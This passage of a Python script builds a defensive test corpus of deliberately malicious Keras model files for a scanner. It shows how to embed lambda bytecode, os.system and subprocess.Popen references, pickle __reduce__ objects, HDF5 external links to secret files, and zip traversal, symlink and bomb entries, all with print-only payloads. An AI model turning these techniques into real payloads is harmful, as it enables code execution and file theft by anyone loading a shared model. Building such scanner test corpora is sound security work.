#!/usr/bin/env python3
"""Writes Corpus/attacks: one harmless reproducer per threat class and variant (docs THREATS.md).

Every file starts from what real Keras 3.15.1 (JAX backend), h5py 3.16 or Python's zipfile writes
and changes only what the attack needs. Payloads only print a marker, name a file inside
Corpus/attacks/payload/, or refer to functions; nothing here reads, writes or fetches anything else
when loaded. MANIFEST.json lists every reproducer with its threat class, the rule ids kconform must
report, whether Keras 3.15.1 itself refuses it, and a paragraph of why. benign/ holds files Keras
writes that sit next to the attacks (a Lambda of an activation, custom registered objects, a zoo of
layers and ops): kconform must report no error on them (custom objects need benign/allow.txt).

    KERAS_BACKEND=jax /work/venv/bin/python scripts/attacks/make_attacks.py

Regenerating replaces Corpus/attacks. Re-running gives the same files except for save timestamps.
"""
import base64
import io
import json
import marshal
import os
import pickle
import shutil
import stat
import struct
import sys
import tempfile
import warnings
import zipfile

os.environ.setdefault("KERAS_BACKEND", "jax")
os.environ.setdefault("JAX_PLATFORMS", "cpu")
warnings.simplefilter("ignore")

import h5py  # noqa: E402
import numpy as np  # noqa: E402
import keras  # noqa: E402

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import custom_objects  # noqa: E402,F401  (registers the benign custom objects)

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
OUT = os.path.join(REPO, "Corpus", "attacks")
INVALID_HDF5 = os.path.join(REPO, "Corpus", "invalid", "hdf5")
MARK = "kconform-attack-corpus: payload ran"
TMP = tempfile.mkdtemp(prefix="kconform-attacks-")
ENTRIES = []
BENIGN = []


def path(*parts):
    return os.path.join(OUT, *parts)


def add(name, threat, expected, why, keras_refuses, variant=""):
    ENTRIES.append({"file": name, "threat": threat, "variant": variant, "expected": expected,
                    "keras_3_15_1_refuses": keras_refuses, "why": " ".join(why.split())})


def benign(name, note, warnings=(), allow_file=None):
    BENIGN.append({"file": name, "note": " ".join(note.split()), "warnings": list(warnings),
                   "allow_file": allow_file})


# ---------------------------------------------------------------------------------------------
# Building blocks

def printing_lambda(x):
    return x


def payload_lambda():
    """A lambda whose bytecode prints the marker, then returns its input."""
    return lambda x: (print("kconform-attack-corpus: payload ran"), x)[1]


def lambda_code():
    """[code, defaults, closure] of the printing lambda, as func_dump writes it."""
    from keras.src.utils import python_utils
    code, defaults, closure = python_utils.func_dump(payload_lambda())
    return [code, defaults, closure]


def small_model():
    return keras.Sequential([keras.Input((2,), name="x"), keras.layers.Dense(1, name="dense")], name="small")


def save_keras(model, name):
    target = os.path.join(TMP, name)
    model.save(target)
    return target


def read_members(archive):
    with zipfile.ZipFile(archive) as z:
        return [(info, z.read(info.filename)) for info in z.infolist()]


def write_members(target, members):
    with zipfile.ZipFile(target, "w") as out:
        for info, data in members:
            out.writestr(info, data)


def edit_config(source, target, edit):
    """Copies a Keras archive, passing config.json through `edit(config)` (which changes it in place)."""
    members = []
    for info, data in read_members(source):
        if info.filename == "config.json":
            config = json.loads(data)
            edit(config)
            data = json.dumps(config).encode()
        members.append((info, data))
    write_members(target, members)


def replace_member(source, target, name, data):
    members = [(info, data if info.filename == name else old) for info, old in read_members(source)]
    write_members(target, members)


def function_ref(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def layer_named(config, name):
    return next(entry for entry in config["config"]["layers"] if entry["config"].get("name") == name)


def legacy_h5(model, target, edit_model_config=None, edit_training_config=None):
    """model.save(<.h5>) with the model_config / training_config attributes passed through edits."""
    model.save(target)
    with h5py.File(target, "r+") as f:
        if edit_model_config:
            config = json.loads(f.attrs["model_config"])
            edit_model_config(config)
            f.attrs["model_config"] = json.dumps(config)
        if edit_training_config:
            config = json.loads(f.attrs["training_config"])
            edit_training_config(config)
            f.attrs["training_config"] = json.dumps(config)


def weights_file(target, build):
    """A Keras .weights.h5 of the small model, then `build(h5file)` applied."""
    model = small_model()
    model.save_weights(target)
    with h5py.File(target, "r+") as f:
        build(f)


def archive_with_weights(target, weights_path, model=None):
    base = save_keras(model or small_model(), "with_weights_base.keras")
    with open(weights_path, "rb") as handle:
        replace_member(base, target, "model.weights.h5", handle.read())


# ---------------------------------------------------------------------------------------------
# Payload files (inside the corpus folder; never read by a safe loader)

def make_payload():
    os.makedirs(path("payload"), exist_ok=True)
    with open(path("payload", "secret.txt"), "w") as f:
        f.write("kconform attack corpus: a file that no model load should ever read\n")
    with open(path("payload", "vocabulary.txt"), "w") as f:
        f.write("1\n2\n3\n")
    with h5py.File(path("payload", "link_target.dat"), "w") as f:
        f["kernel"] = np.full((2, 1), 7.0, dtype="float32")
        f.create_group("group")["vars/0"] = np.full((2, 1), 7.0, dtype="float32")


# ---------------------------------------------------------------------------------------------
# A: code and calls from the config

def make_a():
    model = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(payload_lambda(), name="payload"),
                              keras.layers.Dense(1, name="dense")], name="a1")
    shutil.copy(save_keras(model, "a1.keras"), path("a1_lambda_layer.keras"))
    add("a1_lambda_layer.keras", "A1", ["KC-SAFE-001"], """A Lambda layer whose function is a Python
        lambda: Keras stores its marshalled bytecode as {"class_name": "__lambda__", "config": {"code": ...}}.
        Loading with safe_mode=False (or in tf.keras < 2.13) runs the code; here it only prints.""", True)

    def keras2_list(config):
        entry = layer_named(config, "payload")
        code = lambda_code()
        entry["config"]["function"] = code
        entry["config"]["function_type"] = "lambda"
        entry["config"]["module"] = "__main__"
        entry["config"]["output_shape_type"] = "raw"
    legacy_h5(model, path("a1_keras2_list_form.h5"), edit_model_config=keras2_list)
    add("a1_keras2_list_form.h5", "A1", ["KC-SAFE-001"], """The Keras 2 (tf.keras) Lambda encoding:
        "function" is the list [code, defaults, closure] and "function_type" is "lambda". The Keras 3
        legacy loader turns the list into a __lambda__ (saving_utils.model_from_config), and tf.keras
        ran it. The rule looks at the *_type marker and the list shape, not at this sample.""", True, "Keras 2 form")

    inner = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(payload_lambda(), name="payload")], name="inner")
    x = keras.Input((2,), name="x")
    nested = keras.Model(x, keras.layers.Dense(1, name="dense")(inner(x)), name="outer")
    shutil.copy(save_keras(nested, "a2n.keras"), path("a2_nested_model.keras"))
    add("a2_nested_model.keras", "A2", ["KC-SAFE-001"], """The lambda sits in a Sequential nested in a
        Functional model: scanners that look only at the top-level layer list (modelscan) miss it.""", True, "nested model")

    seq = keras.Input((3, 2), name="x")
    wrapped = keras.Model(seq, keras.layers.TimeDistributed(keras.layers.Lambda(payload_lambda()), name="td")(seq))
    shutil.copy(save_keras(wrapped, "a2w.keras"), path("a2_wrapper.keras"))
    add("a2_wrapper.keras", "A2", ["KC-SAFE-001"], """The lambda is the layer wrapped by TimeDistributed,
        inside the wrapper's config rather than in the layer list.""", True, "wrapper")

    def generic_field(config):
        dense = layer_named(config, "dense")
        dense["config"]["kernel_regularizer"] = keras.saving.serialize_keras_object(payload_lambda())
    edit_config(save_keras(small_model(), "a2g.keras"), path("a2_generic_lambda_field.keras"), generic_field)
    add("a2_generic_lambda_field.keras", "A2", ["KC-SAFE-001"], """The generic __lambda__ object
        ({"class_name": "__lambda__", "config": {"value": [code, defaults, closure]}}, what
        serialize_keras_object writes for any lambda) placed in a Dense layer's kernel_regularizer: any
        field that Keras deserializes can carry one, so every value at every depth is looked at.""", True, "any field")

    shape_model = keras.Sequential([keras.Input((2,)),
                                    keras.layers.Lambda(keras.activations.relu, output_shape=payload_lambda(), name="relu"),
                                    keras.layers.Dense(1, name="dense")], name="a2o")
    shutil.copy(save_keras(shape_model, "a2o.keras"), path("a2_output_shape_lambda.keras"))
    add("a2_output_shape_lambda.keras", "A2", ["KC-SAFE-001"], """The Lambda's function is the harmless
        keras.activations.relu, but its output_shape is a Python lambda: the Lambda layer deserializes
        output_shape the same way as function.""", True, "output_shape")

    legacy_h5(model, path("a3_legacy_lambda.h5"))
    add("a3_legacy_lambda.h5", "A3", ["KC-SAFE-001"], """model.save("x.h5") of a model with a lambda:
        the bytecode is in the model_config attribute of the legacy HDF5 file. Keras 3.0 to 3.11.2
        ignored safe_mode on this path (CVE-2025-9905).""", True)

    base = save_keras(keras.Sequential([keras.Input((2,)), keras.layers.Lambda(keras.activations.relu, name="fn"),
                                        keras.layers.Dense(1, name="dense")], name="a45"), "a45.keras")

    def set_function(module, name, arguments=None):
        def edit(config):
            entry = layer_named(config, "fn")
            entry["config"]["function"] = function_ref(module, name)
            if arguments is not None:
                entry["config"]["arguments"] = arguments
        return edit

    edit_config(base, path("a4_foreign_function.keras"), set_function("os", "system"))
    add("a4_foreign_function.keras", "A4", ["KC-SAFE-002"], """A Lambda whose function envelope names
        module "os" and function "system": any Python callable can be named this way, and a loader that
        imports the module calls it with the layer's input (CVE-2025-1550 class). Keras 3.15.1 only
        imports keras packages; kconform allows only known modelling functions.""", True, "function")

    def foreign_class(config):
        config["config"]["layers"].insert(1, {"module": "subprocess", "class_name": "Popen",
                                              "config": {"args": ["echo", MARK]}, "registered_name": "Popen"})
    plain = save_keras(small_model(), "a4plain.keras")
    edit_config(plain, path("a4_foreign_class.keras"), foreign_class)
    add("a4_foreign_class.keras", "A4", ["KC-SAFE-002"], """A layer entry whose module is "subprocess" and
        class Popen, with its arguments in config: the class-shaped form of the same trick.""", True, "class")

    def foreign_registered_name(config):
        layer_named(config, "dense")["registered_name"] = "kconform_attack>Dense"
    edit_config(plain, path("a4_registered_name.keras"), foreign_registered_name)
    add("a4_registered_name.keras", "A4", ["KC-SAFE-004"], """The built-in keras.layers.Dense carrying
        registered_name "kconform_attack>Dense": Keras looks registered_name up among registered objects
        before the built-in, so the name can redirect a well-known class to any registered one.""", True, "registered_name")

    def keras2_function(config):
        entry = layer_named(config, "fn")
        entry["config"]["function"] = "system"
        entry["config"]["function_type"] = "function"
        entry["config"]["module"] = "os"
    legacy_h5(keras.Sequential([keras.Input((2,)), keras.layers.Lambda(keras.activations.relu, name="fn"),
                                keras.layers.Dense(1, name="dense")], name="a4k2"),
              path("a4_keras2_function_module.h5"), edit_model_config=keras2_function)
    add("a4_keras2_function_module.h5", "A4", ["KC-SAFE-002"], """tf.keras's named-function Lambda:
        "function" is a name, "function_type" is "function" and "module" names the module whose globals
        supply it (here os.system).""", True, "Keras 2 form")

    edit_config(base, path("a5_get_file.keras"), set_function("keras.utils", "get_file"))
    add("a5_get_file.keras", "A5", ["KC-SAFE-003"], """A Lambda calling keras.utils.get_file: an exported
        Keras function that downloads (CVE-2025-8747). Keras 3.15.1 has it on its 26-entry denylist.""", True, "download")
    edit_config(base, path("a5_enable_unsafe.keras"), set_function("keras.config", "enable_unsafe_deserialization"))
    add("a5_enable_unsafe.keras", "A5", ["KC-SAFE-003"], """A Lambda calling
        keras.config.enable_unsafe_deserialization, which would switch safe mode off for the rest of the
        load (CVE-2025-9906); on Keras's denylist.""", True, "settings")
    edit_config(base, path("a5_nested_load_model.keras"),
                set_function("keras.saving", "load_model", {"safe_mode": False}))
    add("a5_nested_load_model.keras", "A5", ["KC-SAFE-003"], """A Lambda calling keras.saving.load_model
        with safe_mode=False from its arguments: a nested unsafe load; on Keras's denylist.""", True, "nested load")
    edit_config(base, path("a5_builtins_deserialize.keras"), set_function("builtins", "deserialize"))
    add("a5_builtins_deserialize.keras", "A5", ["KC-SAFE-003"], """A function named "deserialize" with
        module "builtins": Keras searches its built-in namespaces and finds keras.activations.deserialize,
        a deserializer rather than math. Not on Keras's denylist: Keras resolves it.""", False, "builtins search")

    x = keras.Input((2,), name="x")
    total = keras.layers.Lambda(keras.activations.linear, name="total")(x)
    gate = keras.layers.Lambda(keras.activations.linear, name="gate")(total)
    gadget = keras.Model(x, gate, name="a5g")

    def ops_gadget(config):
        layer_named(config, "total")["config"]["function"] = function_ref("keras.ops", "sum")
        hook = function_ref("keras.config", "disable_interactive_logging")
        gate = layer_named(config, "gate")["config"]
        gate["function"] = function_ref("keras.ops", "cond")
        gate["arguments"] = {"true_fn": hook, "false_fn": hook}
    edit_config(save_keras(gadget, "a5g.keras"), path("a5_ops_cond_gadget.keras"), ops_gadget)
    add("a5_ops_cond_gadget.keras", "A5", ["KC-SAFE-003"], """A Lambda calling keras.ops.cond with
        true_fn/false_fn taken from its arguments: keras.config.disable_interactive_logging. Neither is on
        Keras's denylist, and rebuilding the functional graph traces cond, which calls both: a settings
        change at load time in Keras 3.15.1. Higher-order ops and keras.config are outside the allow-list.""",
        False, "not denylisted")


def make_a_layers():
    golden = os.path.join(REPO, "Corpus", "golden", "integer_lookup.keras")

    def vocabulary_path(config):
        for entry in config["config"]["layers"]:
            if entry["class_name"] == "IntegerLookup":
                entry["config"]["vocabulary"] = "payload/vocabulary.txt"
                entry["config"]["vocabulary_size"] = None
    edit_config(golden, path("a6_vocabulary_path.keras"), vocabulary_path)
    add("a6_vocabulary_path.keras", "A6", ["KC-SAFE-005"], """An IntegerLookup whose vocabulary is a
        path string: the layer opens it with tf.io.gfile, which reads local files and remote URLs
        (CVE-2025-12058). The rule applies to every lookup and text-vectorization class Keras exports.""", True)

    base = save_keras(small_model(), "a7.keras")

    def tfsm(config):
        config["config"]["layers"].insert(0, {"module": "keras.layers", "class_name": "TFSMLayer",
                                              "config": {"name": "tfsm", "filepath": "payload/saved_model",
                                                         "call_endpoint": "serve", "trainable": False},
                                              "registered_name": None})
    edit_config(base, path("a7_tfsmlayer.keras"), tfsm)
    add("a7_tfsmlayer.keras", "A7", ["KC-SAFE-006"], """A TFSMLayer: it loads the SavedModel directory named
        by "filepath", whose graph can run arbitrary TensorFlow ops (CVE-2026-1462).""", True, "TFSMLayer")

    class PrintOnLoad:
        def __reduce__(self):
            return (print, (MARK,))
    pickled = base64.b64encode(pickle.dumps(PrintOnLoad())).decode("ascii")

    def torch(config):
        config["config"]["layers"].insert(0, {"module": "keras.layers", "class_name": "TorchModuleWrapper",
                                              "config": {"name": "torch", "module": pickled, "trainable": True},
                                              "registered_name": None})
    edit_config(base, path("a7_torch_module_wrapper.keras"), torch)
    add("a7_torch_module_wrapper.keras", "A7", ["KC-SAFE-006"], """A TorchModuleWrapper whose "module" is
        base64 torch.save bytes, a pickle (here one that calls print) unpickled on load (CVE-2025-49655).""",
        True, "TorchModuleWrapper")

    def tf_op(config):
        config["config"]["layers"].insert(1, {"class_name": "TFOpLambda",
                                              "config": {"name": "tf.print", "trainable": True, "dtype": "float32",
                                                         "function": "print"}})
    legacy_h5(small_model(), path("a8_tfoplambda.h5"), edit_model_config=tf_op)
    add("a8_tfoplambda.h5", "A8", ["KC-SAFE-007"], """A tf.keras TFOpLambda layer in a legacy .h5
        model_config: it calls the TensorFlow function named by "function" (io.write_file in the wild,
        print here).""", True)


# ---------------------------------------------------------------------------------------------
# B: HDF5

def make_b():
    def external_dataset(f):
        del f["layers/dense/vars/0"]
        f["layers/dense/vars/0"] = h5py.ExternalLink("payload/link_target.dat", "/kernel")
    weights_file(path("b1_external_link_dataset.weights.h5"), external_dataset)
    add("b1_external_link_dataset.weights.h5", "B1", ["KC-W-008"], """The kernel dataset is an external
        link to another HDF5 file: the loader reads weights (or anything) from a file the model names.""", True,
        "dataset")

    def external_group(f):
        del f["layers/dense"]
        f["layers/dense"] = h5py.ExternalLink("payload/link_target.dat", "/group")
    weights_file(path("b1_external_link_group.weights.h5"), external_group)
    add("b1_external_link_group.weights.h5", "B1", ["KC-W-008"], """An intermediate group is the external
        link; only Keras 3.15.1 checks every path component (earlier versions followed it).""", True, "group")

    archive_with_weights(path("b1_external_link.keras"), path("b1_external_link_dataset.weights.h5"))
    add("b1_external_link.keras", "B1", ["KC-W-008"], """The same external link inside the
        model.weights.h5 member of a .keras archive.""", True, "in archive")

    def soft(f):
        del f["layers/dense/vars/1"]
        f["layers/dense/vars/1"] = h5py.SoftLink("/layers/dense/vars/0")
    weights_file(path("b2_soft_link.weights.h5"), soft)
    add("b2_soft_link.weights.h5", "B2", ["KC-W-007"], """The bias is a soft link to the kernel: a link
        redirects which bytes a variable is read from.""", True)

    secret_size = os.path.getsize(path("payload", "secret.txt"))

    def external_storage(f):
        del f["layers/dense/vars/0"]
        f["layers/dense/vars"].create_dataset("0", shape=(2, 1), dtype="float32",
                                              external=[("payload/secret.txt", 0, secret_size)])
    weights_file(path("b3_external_storage.weights.h5"), external_storage)
    add("b3_external_storage.weights.h5", "B3", ["KC-W-009"], """The kernel's raw data is stored in an
        external file (payload/secret.txt): reading the dataset reads that file as weights (CVE-2026-1669).""", True)

    def virtual(f):
        del f["layers/dense/vars/0"]
        layout = h5py.VirtualLayout(shape=(2, 1), dtype="float32")
        layout[:] = h5py.VirtualSource("payload/link_target.dat", "kernel", shape=(2, 1))
        f["layers/dense/vars"].create_virtual_dataset("0", layout, fillvalue=0)
    weights_file(path("b4_virtual_dataset.weights.h5"), virtual)
    add("b4_virtual_dataset.weights.h5", "B4", ["KC-W-010"], """The kernel is a virtual dataset mapped
        onto a dataset of another file (payload/link_target.dat): reading the variable reads that file.""", True)

    rows, units = 81920, 1024
    bomb_model = keras.Sequential([keras.Input((rows,), name="x"), keras.layers.Dense(units, name="dense")], name="b5")
    bomb_h5 = os.path.join(TMP, "b5.weights.h5")
    with h5py.File(bomb_h5, "w") as f:
        root_vars = f.create_group("vars")
        root_vars.attrs["name"] = "b5"
        dense = f.create_group("layers/dense/vars")
        dense.create_dataset("0", shape=(rows, units), dtype="float32")
        dense.create_dataset("1", data=np.zeros(units, dtype="float32"))
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": json.loads(bomb_model.to_json())["config"]}
    base = save_keras(small_model(), "b5base.keras")
    members = []
    for info, data in read_members(base):
        if info.filename == "config.json":
            data = json.dumps(config).encode()
        elif info.filename == "model.weights.h5":
            with open(bomb_h5, "rb") as handle:
                data = handle.read()
        members.append((info, data))
    write_members(path("b5_size_bomb.keras"), members)
    add("b5_size_bomb.keras", "B5", ["KC-W-011"], """The kernel of a Dense(1024) on 81920 inputs is a
        dataset declaring 320 MiB whose storage was never allocated (fill value only): a file of a few KB
        that costs about a gigabyte to load. Keras refuses only above 4 GiB and 1000x; kconform's budget for unstored
        bytes is 256 MiB (ReadLimits.maxUnstoredDatasetBytes).""", False)

    def declared_shape(f):
        del f["layers/dense/vars/0"]
        f["layers/dense/vars"].create_dataset("0", shape=(1024, 1024), dtype="float32")
    shape_weights = os.path.join(TMP, "b5_shape.weights.h5")
    weights_file(shape_weights, declared_shape)
    archive_with_weights(path("b5_config_shape_mismatch.keras"), shape_weights)
    add("b5_config_shape_mismatch.keras", "B5", ["KC-W-014"], """The config's Dense(1) on 2 inputs implies a
        kernel of shape [2, 1]; the stored kernel declares [1024, 1024] (4 MiB, fill value only, far below the
        256 MiB budget for unstored bytes; the size scales up to that budget). Keras reads the declared dataset into memory before
        variable.assign compares shapes and fails; kconform compares every stored shape with the shape the
        config implies (build_config and layer fields), without reading data.""", True, "disagrees with config")

    def giant_layer(config):
        config["config"]["layers"][0]["config"]["batch_shape"] = [None, 16384]
        dense = layer_named(config, "dense")
        dense["config"]["units"] = 8192
        dense["build_config"] = {"input_shape": [None, 16384]}
    edit_config(save_keras(small_model(), "b5_giant_base.keras"), path("b5_config_giant_layer.keras"), giant_layer)
    add("b5_config_giant_layer.keras", "B5", ["KC-W-015"], """A few bytes of config make the Dense layer 8192
        units wide on 16384 inputs: building the model allocates a 512 MiB kernel (and initialises it) before
        any weight is read, while the file stores a 2x1 kernel. The numbers scale to any size. kconform
        derives every variable shape from the config without allocating and refuses more than
        DeclaredShapeLimits.maxUnstoredVariableElements (32 Mi elements) that the weights do not store.""",
        True, "gigantic layer")

    twin = keras.Sequential([keras.Input((1,), name="x"), keras.layers.Dense(1, name="first"),
                             keras.layers.Dense(1, name="second")], name="b6")
    twin_weights = os.path.join(TMP, "b6.weights.h5")
    twin.save_weights(twin_weights)
    with h5py.File(twin_weights, "r+") as f:
        del f["layers/dense_1/vars/0"]
        f["layers/dense_1/vars/0"] = f["layers/dense/vars/0"]
    archive_with_weights(path("b6_hard_link_alias.keras"), twin_weights, model=twin)
    add("b6_hard_link_alias.keras", "B6", ["KC-W-012"], """The kernels of two Dense layers are hard links to
        one dataset: Keras accepts it (the bytes are shared silently) but never writes it, and many aliases of
        one large dataset amplify what a load reads.""", False, "aliasing")

    invalid = json.load(open(os.path.join(INVALID_HDF5, "expected.json")))["samples"]
    for sample, name, variant, why in [
        ("cycle.h5", "b6_cycle.keras", "cycle", """The model.weights.h5 member's root group lists itself
            as a child (Corpus/invalid/hdf5/cycle.h5): a walker without a visited set never ends."""),
        ("objectHeaderInvalid.h5", "b7_malformed_header.keras", "malformed header", """The model.weights.h5
            member has a malformed object header (Corpus/invalid/hdf5/objectHeaderInvalid.h5): input of the
            kind that has crashed libhdf5 (about 133 CVEs). kconform's own reader reports it."""),
    ]:
        archive_with_weights(path(name), os.path.join(INVALID_HDF5, sample))
        threat = "B6" if name.startswith("b6") else "B7"
        add(name, threat, [invalid[sample]["rule"]], why, True, variant)


# ---------------------------------------------------------------------------------------------
# C: zip containers

def set_info(name, compress=zipfile.ZIP_STORED, date=(1980, 1, 1, 0, 0, 0)):
    info = zipfile.ZipInfo(name, date_time=date)
    info.compress_type = compress
    info.external_attr = 0o644 << 16
    return info


def make_c():
    base = save_keras(small_model(), "c.keras")
    members = read_members(base)

    padded = json.loads(dict((i.filename, d) for i, d in members)["config.json"])
    text = json.dumps(padded)[:-1] + ', "padding": "' + " " * (4 << 20) + '"}'
    write_members(path("c1_config_bomb.keras"),
                  [(set_info(i.filename, zipfile.ZIP_DEFLATED), text.encode()) if i.filename == "config.json" else (i, d)
                   for i, d in members])
    add("c1_config_bomb.keras", "C1", ["KC-ZIP-042"], """config.json is deflated 4 MiB of JSON (a padding
        string of spaces) stored in about 4 KB: more than 100x expansion. Keras reads members whole and
        refuses only above 4 GiB and 100x; modelscan runs out of memory on large ones.""", False)

    many = list(members)
    for index in range(4):
        many.append((set_info(f"assets/blob_{index}.bin", zipfile.ZIP_DEFLATED), b"\0" * (2 << 20)))
    write_members(path("c2_many_members.keras"), many)
    add("c2_many_members.keras", "C2", ["KC-ZIP-042"], """Four asset members of 2 MiB of zeros each,
        deflated to a few KB: Keras extracts every asset member to a temporary folder (its own guard
        starts at 256 MiB per member, and there is no total), so such members multiply; kconform's
        per-member ratio and total budgets stop them.""", False)

    total = list(members)
    for index in range(100):
        total.append((set_info(f"assets/part_{index:03d}.bin", zipfile.ZIP_DEFLATED), b"\0" * (1 << 20)))
    write_members(path("c2_total_budget.keras"), total)
    add("c2_total_budget.keras", "C2", ["KC-SAFE-011"], """One hundred asset members of 1 MiB of zeros, each
        deflated to about 1 KB: every member stays within the per-member budgets (the 100x ratio applies
        only above ZipLimits.expansionRatioFloor, 1 MiB), but together they expand to 100 MiB. Keras has no
        total cap and extracts them all; kconform's total budget for inflated bytes
        (ReadLimits.maxInflatedBytes, 96 MiB) stops at the member that would exceed it.""", False, "total budget")

    for name, member, expected, variant, why in [
        ("c3_parent_traversal.keras", "assets/../../kconform_escape.txt", "KC-ZIP-022", "..",
         """An asset member named assets/../../kconform_escape.txt resolves outside the extraction folder."""),
        ("c3_absolute_path.keras", "/tmp/kconform_escape.txt", "KC-ZIP-021", "absolute",
         """An absolute member name."""),
    ]:
        write_members(path(name), members + [(set_info(member), b"kconform attack corpus: escaped\n")])
        add(name, "C3", [expected], why + " Keras skips it with a warning; an extractor that does not writes "
            "outside its folder.", True, variant)
    link = set_info("assets/link")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    write_members(path("c3_symlink.keras"), members + [(link, b"../../payload/secret.txt")])
    add("c3_symlink.keras", "C3", ["KC-ZIP-026"], """A symbolic-link entry (Unix mode S_IFLNK) whose
        target points out of the archive: extractors that honour the mode create a link to any file.""",
        True, "symlink")

    evil = json.loads(open_member(path("a1_lambda_layer.keras"), "config.json"))
    duplicate = []
    for info, data in members:
        duplicate.append((info, data))
        if info.filename == "config.json":
            duplicate.append((set_info("config.json"), json.dumps(evil).encode()))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        write_members(path("c4_duplicate_config.keras"), duplicate)
    add("c4_duplicate_config.keras", "C4", ["KC-ZIP-027", "KC-SAFE-001"], """Two config.json entries: the
        first is harmless, the second holds a lambda. Python's zipfile (and so Keras) reads the last one;
        a scanner that reads the first sees nothing. kconform reports the duplicate and checks the member
        Keras reads.""", True, "duplicate names")

    with open(base, "rb") as handle:
        archive = handle.read()
    with open(path("c4_prepended_data.keras"), "wb") as out:
        out.write(b"#!/bin/sh\necho kconform attack corpus\n" + b"\0" * 24 + archive)
    add("c4_prepended_data.keras", "C4", ["KC-ZIP-034"], """Bytes before the first member (a script):
        zipfile still opens it, and the file is at once two different files to two tools.""", False, "prepended")
    with open(path("c4_appended_data.keras"), "wb") as out:
        out.write(archive + b"kconform attack corpus: appended\n")
    add("c4_appended_data.keras", "C4", ["KC-ZIP-004"], """Bytes after the end of central directory
        record; zipfile ignores them.""", False, "appended")

    mismatch = bytearray(archive)
    local = mismatch.find(b"PK\x03\x04" + archive[4:6], mismatch.find(b"config.json") - 40)
    name_at = mismatch.find(b"config.json", local)
    mismatch[name_at:name_at + 11] = b"cOnfig.json"
    with open(path("c4_local_name_mismatch.keras"), "wb") as out:
        out.write(bytes(mismatch))
    add("c4_local_name_mismatch.keras", "C4", ["KC-ZIP-029"], """The local header of config.json names
        another file than the central directory: tools that walk local headers and tools that read the
        central directory see different archives.""", True, "local/central disagreement")

    overlap = bytearray(archive)
    import re
    centrals = [m.start() for m in re.finditer(b"PK\x01\x02", overlap)]
    offsets = [struct.unpack_from("<I", overlap, c + 42)[0] for c in centrals]
    struct.pack_into("<I", overlap, centrals[0] + 42, offsets[1])
    with open(path("c4_overlapping_entries.keras"), "wb") as out:
        out.write(bytes(overlap))
    add("c4_overlapping_entries.keras", "C4", ["KC-ZIP-033"], """Two central entries point at one local
        header: one stored byte range is read as two members (the overlap trick of zip bombs).""", True, "overlap")

    class PrintOnLoad:
        def __reduce__(self):
            return (print, (MARK,))
    npz = io.BytesIO()
    np.savez(npz, **{"layers/dense": np.array(PrintOnLoad(), dtype=object)})
    write_members(path("c5_npz_pickle.keras"),
                  [(i, d) for i, d in members if i.filename != "model.weights.h5"]
                  + [(set_info("model.weights.npz"), npz.getvalue())])
    add("c5_npz_pickle.keras", "C5", ["KC-NPY-006", "KC-ARC-007"], """model.weights.npz whose member is a
        pickled object array (one that calls print when unpickled): np.load(allow_pickle=True) runs it.
        kconform parses the .npy header and refuses object arrays without unpickling.""", True, "pickle")

    header = {"descr": "<f4", "fortran_order": False, "shape": (1 << 26,)}
    npy = io.BytesIO()
    np.lib.format.write_array_header_1_0(npy, header)
    npy.write(b"\0" * 16)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr(set_info("layers/dense.npy"), npy.getvalue())
    write_members(path("c5_npz_declared_shape.keras"),
                  [(i, d) for i, d in members if i.filename != "model.weights.h5"]
                  + [(set_info("model.weights.npz"), inner.getvalue())])
    add("c5_npz_declared_shape.keras", "C5", ["KC-NPY-007", "KC-ARC-007"], """An npz member whose .npy
        header declares 256 MiB (shape (67108864,) float32) over 16 stored bytes: NumPy allocates the
        declared size before noticing the data is missing.""", False, "declared shape")

    folder = path("c6_folder_lambda")
    os.makedirs(folder, exist_ok=True)
    for info, data in read_members(path("a1_lambda_layer.keras")):
        with open(os.path.join(folder, info.filename), "wb") as out:
            out.write(data)
    add("c6_folder_lambda", "C6", ["KC-SAFE-001"], """An unzipped model folder (config.json, metadata.json,
        model.weights.h5) with the lambda of a1: load_model(dir) loads folders like archives, and scanners
        that only open .keras files skip them.""", True)


def open_member(archive, name):
    with zipfile.ZipFile(archive) as z:
        return z.read(name)


# ---------------------------------------------------------------------------------------------
# Benign neighbours

def make_benign():
    os.makedirs(path("benign"), exist_ok=True)
    shutil.copy(save_keras(small_model(), "dense.keras"), path("benign", "dense.keras"))
    benign("benign/dense.keras", "The smallest model; the .weights.h5 reproducers have its architecture.")
    small_model().save_weights(path("benign", "dense.weights.h5"))
    benign("benign/dense.weights.h5", "Its weights, saved with save_weights.")

    lam = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(keras.activations.relu, name="relu"),
                            keras.layers.Dense(1, name="dense")], name="lam")
    shutil.copy(save_keras(lam, "lam.keras"), path("benign", "lambda_activation.keras"))
    benign("benign/lambda_activation.keras", "A Lambda of keras.activations.relu: harmless, a warning only.",
           ["KC-SAFE-008"])
    lam.save(path("benign", "legacy_lambda_activation.h5"))
    benign("benign/legacy_lambda_activation.h5", "The same model as a legacy .h5.", ["KC-SAFE-008"])

    x = keras.Input((6, 4), name="x")
    y = keras.layers.Conv1D(4, 3, padding="same", activation="gelu", kernel_regularizer=keras.regularizers.L2(1e-4),
                            kernel_constraint=keras.constraints.MaxNorm(2.0))(x)
    y = keras.layers.BatchNormalization()(y)
    y = keras.layers.Bidirectional(keras.layers.LSTM(3, return_sequences=True))(y)
    y = keras.layers.MultiHeadAttention(num_heads=1, key_dim=2, use_bias=False)(y, y)
    y = keras.layers.TimeDistributed(keras.layers.Dense(3, kernel_initializer=keras.initializers.HeNormal(seed=1)))(y)
    y = keras.ops.add(y, keras.ops.tanh(y))
    y = keras.layers.LayerNormalization()(y)
    inner = keras.Sequential([keras.Input((6, 3)), keras.layers.GlobalAveragePooling1D(), keras.layers.Dropout(0.1)],
                             name="inner")
    z = keras.ops.concatenate([inner(y), keras.ops.mean(y, axis=1)], axis=-1)
    z = keras.layers.Activation(keras.activations.silu)(z)
    zoo = keras.Model(x, keras.layers.Dense(2, activation="softmax")(z), name="zoo")
    schedule = keras.optimizers.schedules.ExponentialDecay(0.01, 100, 0.9)
